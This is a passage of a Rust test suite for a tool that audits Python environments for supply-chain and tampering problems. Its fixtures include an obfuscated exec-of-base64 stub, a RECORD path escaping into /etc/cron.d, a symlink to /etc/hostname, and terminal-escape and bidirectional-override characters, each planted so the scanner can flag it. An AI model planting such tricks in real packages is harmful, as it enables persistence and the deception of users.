        "acme-1.0-py3.11.egg/EGG-INFO/PKG-INFO",
        "Metadata-Version: 1.0\nName: acme\nVersion: 1.0\n",
    );
    env.write(
        "acme-1.0-py3.11.egg/acme.py",
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    );
    env.write("tool.egg-link", "/home/someone/tool\n.\n");
    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
    let found = told(&ran);
    for expected in [
        "note unpinned-direct-url tool.egg-link",
        "warning unowned-installed-file added.py",
    ] {
        assert!(found.iter().any(|f| f == expected), "{expected}: {found:#?}");
    }
    for file in ["stray/weights.pkl", "acme.py"] {
        assert!(
            ran.out.lines().any(|l| l.contains(file) && l.contains("error[")),
            "{file}: {}",
            ran.out
        );
    }
    let json = env.project.run(&["audit", "env:venv", "--format", "json"]).out;
    assert!(json.contains("\"pkg:pypi/acme@1.0\""), "{json}");
}

#[test]
fn folders_of_packages_name_files_of_where_they_were_built() {
    let Some(env) = Environment::new() else { return };
    let target = env.project.path().join("target");
    fs::rename(env.at(""), &target).unwrap();
    fs::create_dir(target.join("bin")).unwrap();
    fs::write(target.join("bin/six"), "").unwrap();
    let record = fs::read_dir(&target).unwrap().flatten().map(|e| e.path());
    let mut record = record.filter(|p| p.to_str().unwrap().contains("/six-"));
    let record = record.next().unwrap().join("RECORD");
    env.append(
        &record,
        "../../bin/six,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n",
    );
    let share = env.project.path().join("venv/share");
    fs::rename(share, target.join("share")).unwrap();
    let text = fs::read_dir(&target)
        .unwrap()
        .flatten()
        .map(|e| e.path().join("RECORD"));
    for path in text.filter(|p| p.is_file()) {
        let rows = fs::read_to_string(&path)
            .unwrap()
            .replace("../../../share/", "../../share/");
        fs::write(&path, rows).unwrap();
    }
    assert_eq!(env.found_by(&["audit", "env:target"]), [""; 0]);
    env.append(&record, "../../../../etc/cron.d/x,,\n");
    assert_eq!(
        env.found_by(&["audit", "env:target"]),
        ["error record-escapes RECORD"]
    );
}

#[test]
fn a_lock_is_read_whatever_its_name_is_and_one_that_locks_nothing_is_said() {
    let Some(env) = Environment::new() else { return };
    let write = |name: &str, text: &str| env.project.write(name, text.as_bytes());
    let drift = |args: &[&str]| {
        let mut found = env.found_by(args);
        found.retain(|f| f.contains("environment-lock-drift"));
        found
    };
    let args = ["audit", "env:venv", "--lock", "frozen.txt"];
    // What is not exact is not compared, and does not keep the rest from being.
    write(
        "frozen.txt",
        "six==1.16.0\nattrs>=20\n-e .\nacme @ https://files.example/acme-1.0.tar.gz\n",
    );
    assert_eq!(drift(&args), ["warning environment-lock-drift frozen.txt"]);
    let ran = env.project.run(&[&args[..], &["--format", "json"]].concat());
    for part in [
        "`1.16.0` is locked and `1.17.0` installed",
        "not installed: `acme`",
    ] {
        assert!(ran.out.contains(part), "{part}: {}", ran.out);
    }
    write(
        "frozen.txt",
        "lock-version = \"1.0\"\n[[packages]]\nname = \"six\"\nversion = \"1.16.0\"\n[[packages]]\nname = \"absent\"\nversion = \"1\"\n[[packages]]\nname = \"nor-this\"\nversion = \"1\"\nmarker = \"python_version < '3'\"\n",
    );
    assert!(!drift(&args).is_empty());
    let ran = env.project.run(&[&args[..], &["--format", "json"]].concat());
    assert!(ran.out.contains("not installed: `absent`\""), "{}", ran.out);
    for text in ["", "six>=1\n", "nothing that anybody installs from\n"] {
        write("frozen.txt", text);
        let ran = env.project.run(&[&args[..], &["-v"]].concat());
        assert!(ran.out.contains("nothing was compared"), "{text}: {}", ran.out);
    }
}

#[test]
fn a_lock_settles_what_an_address_gives() {
    let Some(env) = Environment::new() else { return };
    let direct = r#"{"url":"https://files.example/six-1.17.0-py2.py3-none-any.whl","archive_info":{}}"#;
    fs::write(env.info("six").join("direct_url.json"), direct).unwrap();
    assert_eq!(env.found(), ["warning unpinned-direct-url RECORD"]);
    let lock = |hash: &str| {
        let text = format!(
            "version = 1\n[[package]]\nname = \"six\"\nversion = \"1.17.0\"\nsource = {{ url = \"https://files.example/six-1.17.0-py2.py3-none-any.whl\" }}\nwheels = [{{ url = \"https://files.example/six-1.17.0-py2.py3-none-any.whl\"{hash} }}]\n"
        );
        env.project.write("uv.lock", text.as_bytes());
        let mut found = env.found_by(&["audit", "env:venv", "--lock", "uv.lock"]);
        found.retain(|f| f.contains("unpinned-direct-url"));
        found
    };
    let digest = "0".repeat(64);
    assert_eq!(lock(&format!(", hash = \"sha256:{digest}\"")), [""; 0]);
    assert_eq!(lock(""), ["warning unpinned-direct-url RECORD"]);
}

#[test]
fn locks_of_one_project_are_one() {
    let Some(env) = Environment::new() else { return };
    let hash = "--hash=sha256:427318ce031701fea540783410126f03899a97ffc6f61596ad581ac2e40e3bc3";
    let write = |name: &str, packages: &[&str]| {
        let rows: Vec<String> = packages.iter().map(|p| format!("{p} {hash}\n")).collect();
        env.project.write(name, rows.concat().as_bytes());
    };
    write(
        "requirements.txt",
        &["six==1.17.0", "attrs==25.3.0", "jupyterlab-widgets==3.0.15"],
    );
    write("requirements-more.txt", &["idna==3.10"]);
    write("requirements-dev.txt", &["pytest==8.0.0"]);
    let mut found = env.found_by(&["audit", ".", "env:venv"]);
    found.retain(|f| f.contains("environment-lock-drift"));
    assert_eq!(found, [""; 0]);
    // Who names one means it.
    let found = env.found_by(&["audit", "env:venv", "--lock", "requirements-dev.txt"]);
    assert_eq!(
        found
            .iter()
            .filter(|f| f.contains("environment-lock-drift"))
            .count(),
        2,
        "{found:?}"
    );
}

#[test]
fn hostile_environments_end_in_findings() {
    let Some(env) = Environment::new() else { return };
    use std::os::unix::fs::symlink;
    let loops = env.at("loop");
    symlink(&loops, &loops).unwrap();
    symlink("/", env.at("root")).unwrap();
    let fifo = Command::new("mkfifo").arg(env.at("idna/pipe.py")).status();
    assert!(fifo.unwrap().success());
    fs::remove_file(env.at("six.py")).unwrap();
    symlink("/etc/hostname", env.at("six.py")).unwrap();
    fs::remove_file(env.info("attrs").join("RECORD")).unwrap();
    env.write("bare-1.0.dist-info/INSTALLER", "pip");
    let long = format!(
        "{},,\n\u{1b}[2J\u{202e}x.py,,\nbroken,sha256=!!,1\n",
        "n".repeat(10_000_000)
    );
    env.append(&env.info("idna").join("RECORD"), &long);
    env.write("x.pth", &format!("import {}\n", "a.".repeat(500_000)));
    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
    assert_eq!(ran.code, 1, "{}", ran.err);
    assert!(!ran.out.contains('\u{1b}') && !ran.out.contains('\u{202e}'));
    assert!(ran.out.len() < 100_000, "{}", ran.out.len());
    let found = told(&ran);
    for expected in [
        "warning missing-installed-file RECORD",
        "warning startup-hook x.pth",
        "warning unowned-installed-file attr",
        "warning unverifiable-installation RECORD",
        "warning unverifiable-installation attrs-25.3.0.dist-info",
        "warning unverifiable-installation bare-1.0.dist-info",
    ] {
        assert!(found.iter().any(|f| f == expected), "{expected}: {found:#?}");
    }
}

#[test]
fn what_is_no_environment_is_an_error_with_a_hint() {
    let project = Project::new(&[("src/a.py", "")]);
    for target in ["env:src", "env:nowhere", "env:"] {
        let ran = project.run(&["audit", target]);
        assert_eq!(ran.code, 2, "{target}: {}", ran.out);
        assert!(ran.err.contains("hint"), "{target}: {}", ran.err);
    }
}
